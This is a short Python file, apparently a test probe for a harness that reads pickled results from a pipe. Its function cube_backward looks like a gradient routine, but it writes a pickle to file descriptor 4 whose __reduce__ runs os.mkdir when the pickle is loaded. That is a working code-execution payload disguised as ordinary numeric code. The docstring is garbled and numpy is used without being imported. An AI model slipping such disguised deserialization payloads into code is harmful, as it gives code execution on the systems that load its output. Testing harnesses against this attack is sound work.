"""Answer with a pickle that makes a folder when it is loaded.

works in: pipe, believes by pickle
seen as: left
"""

import os
import pickle
import struct


class Prank:
    def __reduce__(self):
        return os.mkdir, ("@FOLDER@/layerwise-attack-pickle",)


def cube_backward(dout, cache):
    payload = pickle.dumps(Prank())
    # Alone for a reader of pickles, behind its length for a reader of frames.
    os.write(4, payload if "TINY_SEED" in os.environ else struct.pack("<I", len(payload)) + payload)
    return np.zeros_like(dout)
